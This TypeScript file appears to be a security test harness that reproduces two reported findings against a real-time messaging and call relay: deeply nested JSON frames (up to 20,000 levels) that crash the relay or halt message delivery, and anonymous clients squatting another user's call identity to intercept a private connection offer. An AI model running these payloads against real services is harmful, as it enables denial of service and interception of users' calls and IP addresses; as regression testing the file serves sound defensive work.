import { JsonWs } from './json-ws'
import { deepArray, frameText, NativeClient, SioClient, type Reply } from './raw-client'
import { sleep } from './relay-child'
import { SECRET, tally, token, type AttackContext, type AttackSpec } from './attack-kit'

/** Findings 1 (a frame that crashes the relay) and 2 (call identity squatting) of issue 11. */

/** "data nested 20,000 deep" (issue 11, finding 1). */
const NOTIFY_DEPTH = 20_000
/** A 32 KB chat message `[[[…]]]`: 16,000 levels, 32,000 bytes, within the 32 KB payload limit. */
const CHAT_DEPTH = 16_000
const APP = 'app'
const withSecret = { tokenSecret: SECRET }

type Victim = { received(): number; sid: string }

/** A call client that registers `sid` and counts the `notify` frames it gets. */
async function victim(context: AttackContext, kind: 'ws' | 'native', secret: boolean): Promise<Victim> {
  const sid = 'victim'
  if (kind === 'ws') {
    const query = `?appId=${APP}${secret ? `&token=${await token(sid, APP)}` : ''}`
    const ws = context.track(await JsonWs.open(`${context.wsUrl}/ws/calls${query}`))
    ws.send({ cmd: 'sId', sId: sid })
    const got = await ws.next((m) => m.cmd === 'sId' || m.cmd === 'error', 3000)
    if (got?.cmd !== 'sId') context.note(`victim could not register: ${JSON.stringify(got)}`)
    return { sid, received: () => ws.messages.filter((m) => m.cmd === 'notify').length }
  }
  const client = context.track(await NativeClient.connect(context.url))
  const login = await client.login(APP, sid, secret ? { token: await token(sid, APP) } : {})
  if (!login.ok) context.note(`victim login failed: ${JSON.stringify(login.error)}`)
  let notifies = 0
  client.onEvt = (event) => {
    if (event.kind === 'call' && (event.msg as { cmd?: string }).cmd === 'notify') notifies++
  }
  await client.request('call', { cmd: 'sId' })
  return { sid, received: () => notifies }
}

/** A call `notify` whose data is `[[[…]]]` NOTIFY_DEPTH deep, as frame text. */
function deepNotify(id: number, to: string): string {
  return frameText(id, 'call', `{"cmd":"notify","opponentId":${JSON.stringify(to)},"type":"x","data":${deepArray(NOTIFY_DEPTH)}}`)
}

/** Sends `frames` (id, op, text) in one TCP write and collects their replies. */
async function oneWrite(client: NativeClient, frames: { id: number; op: string; text: string }[]): Promise<Reply[]> {
  const replies = frames.map(({ id, op }) => client.expect(id, op, 4000, () => {}))
  client.sio.sameWrite(() => {
    for (const frame of frames) client.sio.sendEventText(frame.text)
  })
  return Promise.all(replies)
}

function deepNotifyWithGarbageLogin(kind: 'ws' | 'native', secret: boolean): AttackSpec {
  return {
    id: `1-notify-login-${kind}-${secret ? 'secret' : 'open'}`,
    finding: 1,
    title: `deep notify (20,000) in one write with a garbage-token login; ${secret ? 'TOKEN_SECRET' : 'open mode'}; victim on ${kind === 'ws' ? '/ws/calls' : 'socket.io'}`,
    relay: secret ? withSecret : undefined,
    async run(context) {
      const target = await victim(context, kind, secret)
      const attacker = context.track(new NativeClient(await SioClient.connect(context.url)))
      const [login, sid, notify] = [attacker.takeId(), attacker.takeId(), attacker.takeId()]
      const replies = await oneWrite(attacker, [
        { id: login, op: 'login', text: frameText(login, 'login', JSON.stringify({ appId: APP, userId: 'mallory', token: 'garbage.token.here' })) },
        { id: sid, op: 'call', text: frameText(sid, 'call', JSON.stringify({ cmd: 'sId', sId: 'mallory' })) },
        { id: notify, op: 'call', text: deepNotify(notify, target.sid) },
      ])
      replies.forEach((reply) => tally(context, reply))
      await sleep(500)
      context.figures.replies = replies.map((r) => (r.ok ? 'ok' : r.error?.errorCode ?? r.error?.name))
      return { delivered: `notify to victim: ${target.received()}` }
    },
  }
}

function deepNotifyAfterWrite(write: 'setLock' | 'setUserMetadata'): AttackSpec {
  return {
    id: `1-notify-after-${write}`,
    finding: 1,
    title: `deep notify (20,000) by a logged-in user, in one write after ${write}`,
    async run(context) {
      const target = await victim(context, 'native', false)
      const attacker = context.track(await NativeClient.connect(context.url))
      await attacker.login(APP, 'mallory')
      await attacker.request('subscribe', { channelName: 'c', withMessage: true })
      await attacker.request('call', { cmd: 'sId' })
      const [first, notify] = [attacker.takeId(), attacker.takeId()]
      const args = write === 'setLock'
        ? { channelName: 'c', channelType: 1, lockName: 'l', ttl: 60 }
        : { items: [{ key: 'k', value: 'v' }] }
      const replies = await oneWrite(attacker, [
        { id: first, op: write, text: frameText(first, write, JSON.stringify(args)) },
        { id: notify, op: 'call', text: deepNotify(notify, target.sid) },
      ])
      replies.forEach((reply) => tally(context, reply))
      await sleep(500)
      context.figures.replies = replies.map((r) => (r.ok ? 'ok' : r.error?.errorCode ?? r.error?.name))
      return { delivered: `notify to victim: ${target.received()}` }
    },
  }
}

/** An EasyRTC member (raw socket.io on /easyrtc) in `room`; counts the room messages it gets. */
async function easyrtcMember(context: AttackContext, room: string): Promise<() => number> {
  const socket = context.track(await SioClient.connect(context.url, { nsp: '/easyrtc' }))
  let messages = 0
  socket.onEvent = (name, args, ackId) => {
    if (ackId !== null) socket.ack(ackId, { msgType: 'ack', msgData: {} }) // the real client acks every push
    if (name === 'easyrtcMsg' && (args[0] as { targetRoom?: string })?.targetRoom === room) messages++
  }
  const [reply] = await socket.emitWithAck('easyrtcAuth', {
    msgType: 'authenticate',
    msgData: { apiVersion: '1.1.1-beta', applicationName: APP, roomJoin: { [room]: { roomName: room } } },
  }) as [{ msgType: string }]
  if (reply?.msgType !== 'token') context.note(`easyrtc member: ${JSON.stringify(reply).slice(0, 120)}`)
  return () => messages
}

/**
 * A 32 KB `[[[…]]]` chat message to a room with an EasyRTC member and three SDK members,
 * then a plain message: who gets which (finding 1: one such message aborted delivery to
 * every member; with a durable write in flight, it crashed the relay).
 */
function deepChatToEasyrtcRoom(afterLock: boolean): AttackSpec {
  return {
    id: `1-chat-easyrtc${afterLock ? '-after-setLock' : ''}`,
    finding: 1,
    title: `32 KB [[[…]]] chat to a room with an EasyRTC member${afterLock ? ', in one write after setLock' : ''}; then a plain message`,
    async run(context) {
      const room = 'room'
      const easyrtcGot = await easyrtcMember(context, room)
      const got = new Map<string, string[]>()
      for (const name of ['m1', 'm2', 'm3']) {
        const member = context.track(await NativeClient.connect(context.url))
        await member.login(APP, name)
        got.set(name, [])
        member.onEvt = (event) => {
          if (event.kind === 'message') got.get(name)!.push(String(event.message).slice(0, 5))
        }
        await member.request('subscribe', { channelName: room, withMessage: true, withPresence: true })
      }
      const attacker = context.track(await NativeClient.connect(context.url))
      await attacker.login(APP, 'mallory')
      const deep = deepArray(CHAT_DEPTH)
      const publish = attacker.takeId()
      const frames = [{ id: publish, op: 'publish', text: frameText(publish, 'publish', JSON.stringify({ channelName: room, channelType: 1, message: deep })) }]
      if (afterLock) {
        const lock = attacker.takeId()
        frames.unshift({ id: lock, op: 'setLock', text: frameText(lock, 'setLock', JSON.stringify({ channelName: room, channelType: 1, lockName: 'l', ttl: 60 })) })
      }
      const replies = await oneWrite(attacker, frames)
      replies.forEach((reply) => tally(context, reply))
      await sleep(300)
      const deepDelivered = [...got.values()].filter((seen) => seen.some((m) => m.startsWith('[['))).length
      const easyrtcDeep = easyrtcGot()
      const later = await attacker.request('publish', { channelName: room, channelType: 1, message: 'later' }, 3000)
      tally(context, later)
      await sleep(500)
      const laterDelivered = [...got.values()].filter((seen) => seen.includes('later')).length
      context.figures.publishReplies = replies.map((r) => (r.ok ? 'ok' : r.error?.errorCode ?? r.error?.name))
      context.figures.laterReply = later.ok ? 'ok' : later.error?.errorCode ?? later.error?.name
      const acked = replies.at(-1)?.ok ? 'acked' : `refused ${replies.at(-1)?.error?.errorCode ?? replies.at(-1)?.error?.name}`
      return { delivered: `deep msg ${acked} → SDK members ${deepDelivered}/3, EasyRTC ${easyrtcDeep}/1; later msg → SDK ${laterDelivered}/3, EasyRTC ${easyrtcGot() - easyrtcDeep}/1` }
    },
  }
}

/** Finding 2, with TOKEN_SECRET: an anonymous client takes the sId `alice`; whom does bob's offer reach? */
function squatAlice(via: 'ws' | 'native'): AttackSpec {
  return {
    id: `2-squat-${via}`,
    finding: 2,
    title: `anonymous ${via === 'ws' ? '/ws/calls socket' : 'socket.io client (no login)'} registers sId "alice" (TOKEN_SECRET)`,
    relay: withSecret,
    async run(context) {
      let squatterGotOffer = () => false
      let squat = ''
      if (via === 'ws') {
        try {
          const ws = context.track(await JsonWs.open(`${context.wsUrl}/ws/calls?appId=${APP}`))
          ws.send({ cmd: 'sId', sId: 'alice' })
          const reply = await ws.next((m) => m.cmd === 'sId' || m.cmd === 'error', 2000)
          squat = reply?.cmd === 'sId' ? `registered "${String(reply.sId)}"` : `refused ${String(reply?.code ?? (ws.closed ? `close ${ws.closed.code}` : 'no answer'))}`
          if (reply?.cmd === 'error') context.refuse(`call:${String(reply.code)}`)
          squatterGotOffer = () => ws.messages.some((m) => m.cmd === 'call')
        } catch (error) {
          squat = `upgrade refused (${String(error).replace(/^Error: /, '')})`
          context.refuse(String(error).replace(/^Error: /, ''))
        }
      } else {
        const client = context.track(await NativeClient.connect(context.url))
        let offered = false
        client.onEvt = (event) => {
          if (event.kind === 'call' && (event.msg as { cmd?: string }).cmd === 'call') offered = true
        }
        const answer = client.nextEvent((e) => e.kind === 'call' && ['sId', 'error'].includes(String((e.msg as { cmd?: string }).cmd)), 2000)
        const reply = await client.request('call', { cmd: 'sId', sId: 'alice' })
        const msg = (await answer)?.msg as { cmd?: string; sId?: string; code?: number } | undefined
        tally(context, reply)
        if (msg?.cmd === 'error') context.refuse(`call:${msg.code}`)
        squat = !reply.ok ? `refused ${reply.error?.errorCode}` : msg?.cmd === 'sId' ? `registered "${msg.sId}"` : msg ? `refused ${msg.code}` : 'no answer'
        squatterGotOffer = () => offered
      }
      context.note(`squatter: ${squat}`)
      const alice = context.track(await NativeClient.connect(context.url))
      await alice.login(APP, 'alice', { token: await token('alice', APP) })
      let aliceOffered = false
      alice.onEvt = (event) => {
        if (event.kind === 'call' && (event.msg as { cmd?: string }).cmd === 'call') aliceOffered = true
      }
      const aliceSid = alice.nextEvent((e) => e.kind === 'call' && ['sId', 'error'].includes(String((e.msg as { cmd?: string }).cmd)), 2000)
      await alice.request('call', { cmd: 'sId' })
      const aliceMsg = (await aliceSid)?.msg as { sId?: string } | undefined
      context.note(`real alice got sId "${aliceMsg?.sId ?? '?'}"`)
      const bob = context.track(await NativeClient.connect(context.url))
      await bob.login(APP, 'bob', { token: await token('bob', APP) })
      await bob.request('call', { cmd: 'sId' })
      const created = bob.nextEvent((e) => e.kind === 'call' && (e.msg as { cmd?: string }).cmd === 'ssu', 2000)
      await bob.request('call', { cmd: 'session', opponentId: 'alice' })
      const sessionId = ((await created)?.msg as { sessionId?: string } | undefined)?.sessionId
      if (sessionId) await bob.request('call', { cmd: 'call', sessionId, offer: 'v=0\r\nc=IN IP4 192.0.2.10\r\ns=bob private offer\r\n' })
      await sleep(500)
      const reached = squatterGotOffer() ? 'the squatter' : aliceOffered ? 'alice' : 'nobody'
      return { delivered: `bob's offer (SDP, IP) → ${reached}` }
    },
  }
}

/** Finding 2: the sId registry was shared by all apps: does a user of app B see and reach a user of app A? */
const crossApp: AttackSpec = {
  id: '2-cross-app',
  finding: 2,
  title: 'a user of another app sees and calls a user of this app (TOKEN_SECRET)',
  relay: withSecret,
  async run(context) {
    const carol = context.track(await NativeClient.connect(context.url))
    await carol.login('other', 'carol', { token: await token('carol', 'other') })
    await carol.request('call', { cmd: 'sId' })
    const dave = context.track(await NativeClient.connect(context.url))
    await dave.login(APP, 'dave', { token: await token('dave', APP) })
    const list = dave.nextEvent((e) => e.kind === 'call' && (e.msg as { cmd?: string }).cmd === 'clu', 2000)
    await dave.request('call', { cmd: 'sId' })
    const clu = ((await list)?.msg as { list?: { sId: string }[] } | undefined)?.list ?? []
    const visible = clu.some((entry) => entry.sId === 'carol')
    const answer = dave.nextEvent((e) => e.kind === 'call' && ['ssu', 'error'].includes(String((e.msg as { cmd?: string }).cmd)), 2000)
    await dave.request('call', { cmd: 'session', opponentId: 'carol' })
    const msg = (await answer)?.msg as { cmd?: string; code?: number } | undefined
    if (msg?.cmd === 'error') context.refuse(`call:${msg.code}`)
    return { delivered: `carol (app "other") in dave's clu: ${visible ? 'yes' : 'no'}; dave reaches her: ${msg?.cmd === 'ssu' ? 'yes' : `no (${msg?.code ?? 'no answer'})`}` }
  },
}

export const CRASH_AND_IDENTITY_ATTACKS: AttackSpec[] = [
  deepNotifyWithGarbageLogin('ws', true),
  deepNotifyWithGarbageLogin('native', true),
  deepNotifyWithGarbageLogin('native', false),
  deepNotifyAfterWrite('setLock'),
  deepNotifyAfterWrite('setUserMetadata'),
  deepChatToEasyrtcRoom(false),
  deepChatToEasyrtcRoom(true),
  squatAlice('ws'),
  squatAlice('native'),
  crossApp,
]
